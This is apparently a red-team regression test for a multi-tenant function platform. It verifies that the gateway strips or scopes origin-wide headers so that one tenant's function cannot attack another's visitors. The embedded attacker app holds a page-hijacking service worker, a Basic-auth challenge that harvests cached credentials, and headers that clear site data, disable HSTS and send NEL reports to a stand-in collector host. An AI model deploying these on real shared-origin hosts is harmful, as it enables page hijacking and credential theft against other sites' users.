/**
 * Red team, round 5 of 2026-12-05 (red8): a tenant's function against the browsers of another
 * tenant's visitors. At `/fn/<key>/` every function of every workspace is served on the platform
 * host's one origin (docs/security.md, "What is not isolated"). Headers that act on the whole
 * origin rather than on the answer let one function reach past its prefix: a service worker
 * (registered from a script at `/fn/<key>` without the slash, whose directory is `/fn/`, or with
 * `Service-Worker-Allowed: /`) answered every other function's pages in the visitor's browser, for
 * good, after one visit to the attacker's page; `Clear-Site-Data` cleared the others' cookies and
 * storage; `Strict-Transport-Security` set or removed the host's HSTS. The gateway now confines
 * them to the function's prefix in the path form (gateway/responses.ts, confineToPrefix); at its
 * own host (`<key>.<base domain>`, an origin of its own) a function sends them as it likes.
 */
import assert from 'node:assert/strict';
import { createHmac } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import type { Browser } from 'playwright-core';
import { browserSkip, launchBrowser } from '../helpers/browser.js';
import { request } from './gateway-harness.js';
import { createFunction, deploy, newTenant, py, upload, usePlatform, type Api } from './platform-harness.js';

const ATTACKER_APP = py(
  'from fastapi import FastAPI, Request',
  'from fastapi.responses import HTMLResponse, Response',
  'app = FastAPI()',
  // The worker answers every page under /fn/ but the attacker's own with its own page.
  'WORKER = """',
  "self.addEventListener('install', (e) => self.skipWaiting());",
  "self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));",
  "self.addEventListener('fetch', (e) => {",
  "  const path = new URL(e.request.url).pathname;",
  "  if (!path.startsWith(OWN)) {",
  "    e.respondWith(new Response('<title>HIJACKED</title>' + path, {headers: {'content-type': 'text/html'}}));",
  '  }',
  '});',
  '"""',
  // Two ways out of its prefix: the script at /fn/<key> (directory /fn/) asking for the scope
  // /fn/, and a script that allows itself the whole origin.
  'PAGE = """<!doctype html><title>attacker</title><script>',
  "const own = location.pathname.replace(/\\\\/$/, '');",
  'Promise.allSettled([',
  "  navigator.serviceWorker.register(own + '?worker=1', {scope: '/fn/'}),",
  "  navigator.serviceWorker.register(own + '/worker.js', {scope: '/'}),",
  "]).then((all) => { document.title = 'done ' + all.map((r) => r.status).join(' '); });",
  '</script>"""',
  '@app.get("/")',
  'def page(request: Request, worker: str | None = None):',
  '    if worker:',
  '        own = request.scope["root_path"] + "/"',
  '        return Response(WORKER.replace("OWN", repr(own)), media_type="text/javascript")',
  '    return HTMLResponse(PAGE)',
  '@app.get("/worker.js")',
  'def worker(request: Request):',
  '    own = request.scope["root_path"] + "/"',
  '    return Response(WORKER.replace("OWN", repr(own)), media_type="text/javascript", headers={"Service-Worker-Allowed": "/"})',
  '@app.post("/")',
  'def delivery():',
  '    return Response("delivered", headers=ORIGIN_WIDE)',
  '@app.get("/steal")',
  'def steal(request: Request):',
  // A Basic challenge with no realm, as FastAPI's HTTPBasic() sends: the browser's cached
  // credentials for that realm on the origin come back with the retry.
  '    auth = request.headers.get("authorization")',
  '    if auth is None:',
  '        return Response("who?", status_code=401, headers={"WWW-Authenticate": "Basic"})',
  '    return Response("got " + auth)',
  '@app.get("/stream")',
  'def stream():',
  '    from fastapi.responses import StreamingResponse',
  '    return StreamingResponse(iter([b"who?"]), status_code=401, headers=ORIGIN_WIDE)',
  '@app.get("/echo")',
  'def echo(request: Request):',
  '    return Response("sent " + request.headers.get("authorization", "nothing"))',
  '@app.get("/logout")',
  'def logout():',
  '    return Response("bye", headers=ORIGIN_WIDE)',
  'ORIGIN_WIDE = {',
  '    "Clear-Site-Data": \'"cookies", "storage"\',',
  '    "Strict-Transport-Security": "max-age=0",',
  '    "Service-Worker-Allowed": "/",',
  '    "NEL": \'{"report_to": "spy", "max_age": 31536000, "include_subdomains": true, "success_fraction": 1.0}\',',
  '    "Report-To": \'{"group": "spy", "max_age": 31536000, "endpoints": [{"url": "https://collector.invalid/r"}]}\',',
  '    "Alt-Svc": \'h2="collector.invalid:443"; ma=86400\',',
  '    "WWW-Authenticate": \'Basic realm="shop"\',',
  '    "X-Own": "kept",',
  '}',
);

const VICTIM_APP = py(
  'from typing import Annotated',
  'from fastapi import Depends, FastAPI',
  'from fastapi.responses import HTMLResponse',
  'from fastapi.security import HTTPBasic, HTTPBasicCredentials',
  'app = FastAPI()',
  '@app.get("/admin")',
  'def admin(credentials: Annotated[HTTPBasicCredentials, Depends(HTTPBasic())]):',
  '    return {"user": credentials.username}',
  '@app.get("/")',
  'def page():',
  '    return HTMLResponse("<!doctype html><title>victim shop</title><form method=post action=login><input name=password></form>")',
  // Its root takes a POST from its admins only: at the bare name (/fn/<key>), whose directory is /fn/.
  '@app.post("/")',
  'def order(credentials: Annotated[HTTPBasicCredentials, Depends(HTTPBasic())]):',
  '    return {"ordered": credentials.username}',
);

const attacker = 'evil';
const victim = 'shop';
let attackerKey = '';
let victimKey = '';
let attackerApi: Api;

const h = usePlatform({ poolSize: 2 }, async () => {
  const att = await newTenant(h);
  const acme = await newTenant(h);
  // The attacker's function also takes `sync` webhook deliveries: its answer is served at
  // /hooks/<key>/<id>, on the platform host's origin too.
  const manifest = { kind: 'function', name: attacker, triggers: [{ type: 'webhook', id: 'github', sync: true }] };
  for (const [api, name, app, extra] of [[att.api, attacker, ATTACKER_APP, { manifest }], [acme.api, victim, VICTIM_APP, {}]] as const) {
    await createFunction(api, name);
    await upload(api, name, { 'main.py': app }, { entrypoint: 'main:app', ...extra });
    await deploy(api, name);
  }
  attackerApi = att.api;
  attackerKey = `${attacker}.${att.name}`;
  victimKey = `${victim}.${acme.name}`;
});

describe('attack: one function\'s origin-wide headers at /fn/ against other workspaces\' functions', () => {
  it('a worker script at /fn/<key> is allowed its own prefix only, whatever the function says', async () => {
    // Without the slash: the script's directory is /fn/, the scope of every function.
    const bare = await request(`${h.url}/fn/${attackerKey}?worker=1`, { headers: { 'service-worker': 'script' } });
    assert.equal(bare.status, 200, bare.body.toString());
    assert.equal(bare.headers['service-worker-allowed'], `/fn/${attackerKey}/`);
    // The function's own `Service-Worker-Allowed: /` is replaced, not added to.
    const wide = await request(`${h.url}/fn/${attackerKey}/worker.js`, { headers: { 'service-worker': 'script' } });
    assert.equal(wide.status, 200, wide.body.toString());
    assert.equal(wide.headers['service-worker-allowed'], `/fn/${attackerKey}/`);
  });

  it('a function\'s origin-wide headers (Clear-Site-Data, HSTS, a worker\'s scope, NEL reports, Alt-Svc) are dropped at /fn/; at its own host they are its own', async () => {
    const wide = ['clear-site-data', 'strict-transport-security', 'service-worker-allowed', 'nel', 'report-to', 'alt-svc'];
    const path = await request(`${h.url}/fn/${attackerKey}/logout`);
    assert.equal(path.status, 200);
    assert.equal(path.body.toString(), 'bye');
    assert.equal(path.headers['x-own'], 'kept');
    for (const name of wide) assert.equal(path.headers[name], undefined, `${name} went out on the platform host's origin`);
    const own = await request(`${h.url}/logout`, { headers: { host: `${attackerKey}.localhost` } });
    assert.equal(own.status, 200);
    for (const name of wide) assert.ok(own.headers[name], `${name} missing at the function's own host`);
    assert.equal(own.headers['strict-transport-security'], 'max-age=0');
  });

  it('a function\'s Basic challenge at /fn/ has a realm of its own, which no other function\'s can name; at its own host it is as sent', async () => {
    const path = await request(`${h.url}/fn/${attackerKey}/steal`);
    assert.equal(path.status, 401);
    assert.equal(path.headers['www-authenticate'], `Basic realm="/fn/${attackerKey}/"`);
    const victimPath = await request(`${h.url}/fn/${victimKey}/admin`);
    assert.equal(victimPath.headers['www-authenticate'], `Basic realm="/fn/${victimKey}/"`);
    const named = await request(`${h.url}/fn/${attackerKey}/logout`);
    assert.equal(named.headers['www-authenticate'], `Basic realm="/fn/${attackerKey}/ shop"`);
    const own = await request(`${h.url}/steal`, { headers: { host: `${attackerKey}.localhost` } });
    assert.equal(own.headers['www-authenticate'], 'Basic');
  });

  it('a streamed answer loses them too, and its Basic challenge is scoped', async () => {
    const res = await request(`${h.url}/fn/${attackerKey}/stream`);
    assert.equal(res.status, 401);
    assert.equal(res.body.toString(), 'who?');
    assert.equal(res.headers['www-authenticate'], `Basic realm="/fn/${attackerKey}/ shop"`);
    assert.equal(res.headers['clear-site-data'], undefined);
  });

  it('an answer at the bare name (/fn/<key>, directory /fn/) has no Basic challenge; the 401 is kept', async () => {
    const bare = await request(`${h.url}/fn/${victimKey}?q=1`, { method: 'POST' });
    assert.equal(bare.status, 401, bare.body.toString());
    assert.equal(bare.headers['www-authenticate'], undefined);
    const slash = await request(`${h.url}/fn/${victimKey}/`, { method: 'POST' });
    assert.equal(slash.headers['www-authenticate'], `Basic realm="/fn/${victimKey}/"`);
  });

  it('a sync webhook\'s answer (at /hooks/, the same origin) loses them too', async () => {
    const secret = (await attackerApi.call('POST', `/functions/${attacker}/triggers/github/secret/rotate`, {})).body.secret as string;
    const body = '{"action": "opened"}';
    const signature = createHmac('sha256', secret).update(body).digest('hex');
    const res = await request(`${h.url}/hooks/${attackerKey}/github`, { method: 'POST', body: Buffer.from(body), headers: { 'x-hub-signature-256': `sha256=${signature}` } });
    assert.equal(res.status, 200, res.body.toString());
    assert.equal(res.body.toString(), 'delivered');
    assert.equal(res.headers['x-own'], 'kept');
    assert.equal(res.headers['www-authenticate'], `Basic realm="/hooks/${attackerKey}/ shop"`);
    for (const name of ['clear-site-data', 'strict-transport-security', 'service-worker-allowed', 'nel', 'report-to', 'alt-svc']) {
      assert.equal(res.headers[name], undefined, `${name} went out on the platform host's origin`);
    }
  });

  describe('in a browser', { skip: browserSkip() }, () => {
    let browser: Browser;
    before(async () => {
      browser = await launchBrowser();
    });
    after(async () => {
      await browser?.close();
    });

    it('a visit to the attacker\'s page registers no worker over another workspace\'s function: its page stays its own', { timeout: 90_000 }, async () => {
      const context = await browser.newContext();
      try {
        const page = await context.newPage();
        await page.goto(`${h.url}/fn/${attackerKey}/`);
        await page.waitForFunction('document.title.startsWith("done")', null, { timeout: 30_000 });
        const registered = await page.title();
        await page.close();
        // Later, in the same browser: the victim's page is the victim's (before: "HIJACKED", the
        // attacker's worker answered it, and would have read what the visitor typed there).
        const visit = await context.newPage();
        const answer = await visit.goto(`${h.url}/fn/${victimKey}/`);
        assert.equal(await visit.title(), 'victim shop');
        assert.ok(answer?.headers()['x-run-id'], 'the victim\'s page came from the platform, not from a worker');
        // Both registrations were refused by the browser (a scope past Service-Worker-Allowed).
        assert.equal(registered, 'done rejected rejected');
        assert.deepEqual(await visit.evaluate('navigator.serviceWorker.getRegistrations().then((r) => r.map((x) => x.scope))'), []);
      } finally {
        await context.close();
      }
    });

    /** A visitor who gave the victim's /admin a username and password; from then on only the browser's own cache answers a challenge (the visitor types nothing). */
    async function signedInVisitor() {
      const context = await browser.newContext({ httpCredentials: { username: 'alice', password: 'wonderland' } });
      const page = await context.newPage();
      const admin = await page.goto(`${h.url}/fn/${victimKey}/admin`);
      assert.equal(admin?.status(), 200);
      assert.deepEqual(JSON.parse(await page.textContent('body') ?? ''), { user: 'alice' });
      await context.setHTTPCredentials(null);
      return { context, page };
    }

    // Before apps round 24 the attacker's page showed "got Basic <the visitor's credentials>":
    // Chromium answered its realm-less challenge from the credentials cached for the victim's.
    it('the Basic credentials a visitor gave another workspace\'s function are not sent to the attacker\'s challenge', { timeout: 90_000 }, async () => {
      const { context, page } = await signedInVisitor();
      try {
        const stolen = await page.goto(`${h.url}/fn/${attackerKey}/steal`).then((r) => r?.status(), (err: Error) => err.message);
        const shown = await page.textContent('body').catch(() => '');
        assert.ok(!(shown ?? '').includes('got '), `the attacker got ${shown} (${String(stolen)})`);
        assert.notEqual(stolen, 200);
      } finally {
        await context.close();
      }
    });

    // Red team round 41: the attacker's page fetches the victim's bare name (/fn/<key>, no slash).
    // Chromium answered its challenge from the cache (the realm is the victim's own) and filed the
    // credentials under that URL's directory, /fn/: every later request under /fn/, the
    // attacker's included, carried them unasked ("sent Basic <the visitor's credentials>").
    it('a page that fetches another function\'s bare name does not make the browser send its credentials to every function', { timeout: 90_000 }, async () => {
      const { context, page } = await signedInVisitor();
      try {
        await page.goto(`${h.url}/fn/${attackerKey}/echo`);
        assert.equal(await page.textContent('body'), 'sent nothing');
        const seen = await page.evaluate(async (bare) => {
          const order = await fetch(bare, { method: 'POST' });
          const echo = await fetch('echo');
          return `${order.status} ${await echo.text()}`;
        }, `/fn/${victimKey}`);
        assert.equal(seen, '401 sent nothing');
      } finally {
        await context.close();
      }
    });
  });
});
